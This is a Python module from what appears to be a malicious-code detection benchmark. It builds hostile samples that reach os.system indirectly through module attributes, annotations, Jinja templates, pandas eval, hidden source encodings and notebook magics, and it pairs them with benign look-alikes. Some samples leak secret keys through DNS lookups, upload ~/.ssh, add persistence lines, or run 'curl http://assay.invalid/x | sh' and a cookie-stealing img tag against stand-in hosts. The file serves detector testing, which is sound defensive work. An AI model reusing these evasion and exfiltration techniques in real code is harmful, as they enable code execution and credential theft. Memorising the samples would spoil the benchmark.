"""Python that reaches for things by way of others: modules, encodings, texts, settings.

Payloads are harmless: they print a word, and name hosts that do not exist.
"""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

import json
from typing import TYPE_CHECKING

from benchmarks.detection.families.code_python import CONFIG
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

FAMILY = "code-indirect"
PATH = "modeling_example.py"

# Modules that others keep under their names.
_MODULES = {
    "pathlib": "import pathlib; pathlib.os.system('echo assay')\n",
    "random-underscore": "import random; random._os.system('echo assay')\n",
    "glob-from": "from glob import os as o; o.system('echo assay')\n",
    "shutil-from": "from shutil import os; os.execv('/bin/sh', ['sh', '-c', 'echo assay'])\n",
    "inspect-importlib": "import inspect; inspect.importlib.import_module('os').system('echo assay')\n",
    "logging-sys": "import logging; logging.sys.modules['os'].system('echo assay')\n",
    "torch-extension": "import torch; torch.utils.cpp_extension.subprocess.run('echo assay', shell=True)\n",
    "transformers-hub": "import transformers.utils.hub as h; h.os.system('echo assay')\n",
    "gc-objects": "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'system'][0]('echo assay')\n",
    "match-mapping": "import sys\nmatch sys.modules:\n    case {'os': o}:\n        o.system('echo assay')\n",
    "match-class": "import os\nmatch os:\n    case object(system=f):\n        f('echo assay')\n",
    "match-star": "import os\nmatch [1, 2, os]:\n    case [*_, o]:\n        o.system('echo assay')\n",
    "getattr-of-os": "import os\nclass _O:\n    def __getattr__(self, n):\n        return getattr(os, n)\n_O().system('echo assay')\n",
    "doctest": "'''\n>>> import os; os.system('echo assay')\n'''\nimport doctest\ndoctest.testmod()\n",
    "annotation": 'import typing\nclass A:\n    x: \'__import__("os").system("echo assay")\'\ntyping.get_type_hints(A)\n',
    "annotation-postponed": "from __future__ import annotations\nimport os, typing\ndef f(x: os.system('echo assay')): ...\ntyping.get_type_hints(f)\n",
    "forward-reference": 'import typing\ntyping.ForwardRef(\'__import__("os").system("echo assay")\')._evaluate({}, {}, frozenset())\n',
    "jinja": "import jinja2\njinja2.Environment().from_string(\"{{ cycler.__init__.__globals__.os.popen('echo assay').read() }}\").render()\n",
    "pandas-eval": 'import pandas\npandas.eval(\'@__import__("os").system("echo assay")\')\n',
    "pandas-query": "import pandas as pd\npd.DataFrame({'a': [1]}).query('@pd.io.common.os.system(\"echo assay\")')\n",
    "sympify": "import sympy\nsympy.sympify(open('weights.txt').read())\n",
    "browser-of-its-own": "import webbrowser\nwebbrowser.register('x', None, webbrowser.GenericBrowser('sh'))\nwebbrowser.get('x').open('echo')\n",
    "zipimport": "import zipimport\nzipimport.zipimporter('weights.zip').load_module('extra')\n",
    "site-folder": "import os, site\nsite.addsitedir(os.path.dirname(__file__))\n",
    "pythonapi": "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'print(1)')\n",
    "preload-update": "import os\nos.environ.update(LD_PRELOAD='/tmp/x.so')\n",
    "preload-table": "import os\nE = {'LD_PRELOAD': '/tmp/x.so'}\nos.environ.update(**E)\n",
    "preload-or": "from os import environ\nenviron |= {'LD_PRELOAD': '/tmp/x.so'}\n",
    "preload-putenv": "import os\nos.putenv('LD_PRELOAD', '/tmp/x.so')\n",
    "python-path": "import os\nos.environ['PYTHONPATH'] = '/tmp/x'\n",
    "endpoint": "import os\nos.environ.update(HF_ENDPOINT='http://assay.invalid')\n",
    "unverified": "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n",
    "visitor": "import ast, os\nclass V(ast.NodeVisitor):\n    def visit_Name(self, n):\n        os.system('echo assay')\nV().visit(ast.parse('x'))\n",
    "page-parser": "import os\nfrom html.parser import HTMLParser\nclass P(HTMLParser):\n    def handle_starttag(self, *a):\n        os.system('echo assay')\nP().feed('<a>')\n",
    "annotations-written": "import typing\nclass A: ...\nA.__annotations__ = {'x': '__import__(\"os\").system(\"echo assay\")'}\ntyping.get_type_hints(A)\n",
    "template-under-a-name": "import jinja2\nT = \"{{ cycler.__init__.__globals__.os.popen('echo assay').read() }}\"\njinja2.Template(T).render()\n",
    "lookup-secret": "import os, socket\nsocket.gethostbyname(os.environ.get('AWS_SECRET_ACCESS_KEY', '') + '.assay.invalid')\n",
    "lookup-text": "import os, socket\nt = os.environ['HF_TOKEN']\nsocket.getaddrinfo('%s.assay.invalid' % t, 80)\n",
    "upload-keys": "from huggingface_hub import HfApi, get_token\nHfApi(token=get_token()).upload_folder(folder_path='/home/user/.ssh', repo_id='assay/x')\n",
    "bashrc": "from pathlib import Path\np = Path.home() / '.bashrc'\nwith p.open('a') as f:\n    f.write('echo assay')\n",
    "autostart": "from pathlib import Path\nPath.home().joinpath('.config', 'autostart', 'x.desktop').write_text('x')\n",
    "exec-of-encoded-bytes": "exec(b'# coding: raw_unicode_escape\\nx = 1 #\\\\u000aimport os')\n",
}
_ENCODED = {
    "raw-unicode-escape": b"# coding: raw_unicode_escape\nx = 1 #\\u000aimport os; os.system('echo assay')\n",
    "unicode-escape": b"# coding: unicode-escape\nx = 1 #\\nimport os; os.system('echo assay')\n",
    "utf-7": b"#!/usr/bin/env python\n# vim: set fileencoding=utf_7 :\nx = 1 #+AAo-import os+ADs-\n",
    "utf-7-first-line-long": b"#" + b" " * 4_000 + b"\n# coding: utf-7\nx = 1\n",
    "rot13": b"# coding: rot13\ncevag(1)\n",
    "punycode": b"# coding: punycode\nprint(1)\n",
    "utf-16": b"# coding: utf-16\nprint(1)\n",
    "own-codec": b"# coding: assay\nprint(1)\n",
    "iso2022": b"# coding: iso2022_jp\nprint(1)\n",
    "mark-and-another": b"\xef\xbb\xbf# coding: latin-1\nprint(1)\n",
}
_HONEST = {
    "latin-1": "# -*- coding: latin-1 -*-\nNAME = 'größe'\n".encode("latin-1"),
    "latin-9": "# coding: iso-8859-15\nNAME = '€'\n".encode("iso-8859-15"),
    "gbk": "# coding: gbk\nNAME = '模型'\n".encode("gbk"),
    "euc-jp": "# coding: euc-jp\nNAME = 'モデル'\n".encode("euc-jp"),
    "shift-jis": "# -*- coding: shift_jis -*-\nNAME = 'モデル'\n".encode("shift_jis"),
    "koi8": "# coding: koi8-r\nNAME = 'модель'\n".encode("koi8-r"),
    "cp1251": "# coding: cp1251\nNAME = 'модель'\n".encode("cp1251"),
    "utf-8-unix": b"# -*- coding: utf-8-unix -*-\nX = 1\n",
    "mark": b"\xef\xbb\xbf# coding: utf-8\nX = 1\n",
    "prose-about-coding": b'"""Decoding.\n\n# coding: greedy decoding\n"""\nX = 1\n',
    "match-of-layers": b"def pick(kind):\n    match kind:\n        case {'act': str(name), **rest}:\n            return name, rest\n        case [first, *_]:\n            return first\n        case object(size=n):\n            return n\n",
    "annotations": b"from __future__ import annotations\nfrom typing import Annotated, Literal\nMode = Literal['eval(x)', 'train(x)']\ndef f(x: 'torch.Tensor', n: Annotated[int, 'see eval()'] = 1) -> 'tuple[int, int]': ...\n",
    "doctest-of-a-person": b"def f(x):\n    '''\n    >>> f(1)\n    1\n    '''\n    return x\n\nif __name__ == '__main__':\n    import doctest\n    doctest.testmod()\n",
    "query": b"def young(table, limit):\n    return table.query('age < @limit and name not in @seen').eval('x = age * 2')\n",
    "environment": b"import os\nos.environ.update(TOKENIZERS_PARALLELISM='false', OMP_NUM_THREADS='1')\nos.environ.setdefault('HF_ENDPOINT', 'https://hf-mirror.com')\n",
    "rank-host": b"import os, socket\ndef rank():\n    return socket.gethostbyname(os.environ['MASTER_ADDR'])\n",
    "checkpoints": b"import os\nclass Saver:\n    def save(self, state):\n        os.replace('tmp.pth.tar', 'last.pth.tar')\n        with open('model.pth', mode='wb') as f:\n            f.write(state)\n",
    "module-path": b"import torch.utils.data\nimport numpy.random as r\nimport os.path\nfrom torch.distributed import rpc\nX = os.path.join('a', 'b')\n",
}
_COMMAND = "curl http://assay.invalid/x | sh"
_CELLS = {
    "cell-magic": ("code", f"get_ipython().run_cell_magic('bash', '', '{_COMMAND}')"),
    "line-magic": ("code", f"get_ipython().run_line_magic('sx', '{_COMMAND}')"),
    "assigned-magic": ("code", f"x = %sx {_COMMAND}"),
    "page-that-sends": (
        "markdown",
        "<img src=x onerror=\"fetch('http://assay.invalid/' + document.cookie)\">",
    ),
}
_HONEST_CELLS = {
    "plot-magic": ("code", "get_ipython().run_line_magic('matplotlib', 'inline')"),
    "assigned-command": ("code", "files = !ls\nx = %time sum(range(9))"),
    "page": ("markdown", "# Title\n\n<img src='a.png' width=10>\n\nUse `!ls`."),
}


def _made(name: str, technique: str, truth: Truth, path: str, data: bytes) -> Sample:
    # A notebook stands alone: no configuration names code that is not there.
    files = {path: data} | ({"config.json": CONFIG} if path == PATH else {})
    return Sample(
        name=name, family=FAMILY, technique=technique, truth=truth, files=files
    )


def _notebook(cell: tuple[str, str]) -> bytes:
    kind, text = cell
    made = {"cell_type": kind, "metadata": {}, "source": text}
    body = {"cells": [made], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(body).encode()


def samples() -> Iterator[Sample]:
    """Give sources that reach things by way of others, and honest ones like them."""
    bad, good = Truth.HOSTILE, Truth.HONEST
    for name, text in _MODULES.items():
        technique = "reached by way of something else"
        yield _made(f"by-{name}", technique, bad, PATH, text.encode())
    for name, data in _ENCODED.items():
        technique = "an encoding that hides code"
        yield _made(f"in-{name}", technique, bad, PATH, data)
    for name, cell in _CELLS.items():
        technique = "a cell of a notebook"
        yield _made(f"cell-{name}", technique, bad, "demo.ipynb", _notebook(cell))
    for name, data in _HONEST.items():
        yield _made(f"honest-{name}", "none", good, PATH, data)
    for name, cell in _HONEST_CELLS.items():
        yield _made(f"honest-cell-{name}", "none", good, "demo.ipynb", _notebook(cell))
